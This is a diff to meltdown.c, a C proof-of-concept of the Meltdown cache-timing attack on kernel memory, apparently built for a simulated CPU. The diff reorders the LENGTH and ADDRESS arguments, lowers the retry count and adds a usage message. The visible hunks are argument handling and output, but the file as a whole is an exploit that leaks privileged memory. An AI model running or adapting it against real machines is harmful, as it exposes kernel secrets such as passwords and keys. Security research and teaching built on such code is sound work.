@@ -1,6 +1,6 @@
 // meltdown.c - reads what it may not: the kernel's secret, by the time that loads take (Lipp et al., "Meltdown", 2018).
 //
-//   meltdown [fork|branch] [ADDRESS [LENGTH]]
+//   meltdown [fork|branch] [LENGTH [ADDRESS]]
 //
 // A load from the kernel's memory is refused. But this machine, told to (--transient), goes on for a while as if it were not, with the
 // value, and then throws away all that it has done; only the cache remembers. So:
@@ -25,7 +25,7 @@
 
 #define VALUES 256
 #define STRIDE 512 // between two of the lines: so that a page has eight of them, and lines between that mean nothing
-#define ROUNDS 6   // until one line answers: the timer may have come between
+#define ROUNDS 4   // until one line answers: the timer may have come between
 #define MOST 1024  // bytes at a time
 #define TRAINING 4
 
@@ -150,9 +150,12 @@ int main(int argc, char **argv, const volatile uint8_t *address) {
   int next = 1;
   if (next < argc && strcmp(argv[next], "fork") == 0) transmit = transmit_in_child, next++;
   else if (next < argc && strcmp(argv[next], "branch") == 0) transmit = transmit_behind_branch, next++;
-  if (next < argc) address = (const volatile uint8_t *)number(argv[next++]);
-  int length = next < argc ? (int)number(argv[next]) : 32;
-  if (length < 1 || length > MOST) return 2;
+  uint64_t length = next < argc ? number(argv[next++]) : 32;
+  if (next < argc) address = (const volatile uint8_t *)number(argv[next]);
+  if (length < 1 || length > MOST) {
+    printf("usage: meltdown [fork|branch] [LENGTH [ADDRESS]], with up to %d bytes\n", MOST);
+    return 2;
+  }
 
   others = sbrk(OTHERS + PAGE);
   if ((long)others < 0) {
@@ -162,18 +165,18 @@ int main(int argc, char **argv, const volatile uint8_t *address) {
   others = (volatile uint8_t *)(((uint64_t)others + PAGE - 1) & -PAGE);
   if (!calibrate()) printf("meltdown: all loads take the same time (--cost-model caches)\n");
   if (transmit == NULL) transmit = child_shares_lines() ? transmit_in_child : transmit_behind_branch;
-  printf("meltdown: %d bytes at %p, %s\n", length, (void *)address,
+  printf("meltdown: %lu bytes at %p, %s\n", length, (void *)address,
          transmit == transmit_in_child ? "read by children that are killed" : "read behind a branch that goes elsewhere");
 
   static char text[MOST + 2];
   int known = 0;
-  for (int i = 0; i < length; i++) {
+  for (uint64_t i = 0; i < length; i++) {
     int value = read_byte(transmit, address + i);
     known += value >= 0;
     text[i] = value < 0 ? '?' : (char)(value < ' ' || value == 0x7f ? '.' : value);
   }
   text[length] = '\n';
-  printf("meltdown: %d of %d bytes answered\n", known, length);
+  printf("meltdown: %d of %lu bytes answered\n", known, length);
   write(1, text, length + 1);
   return 0;
 }
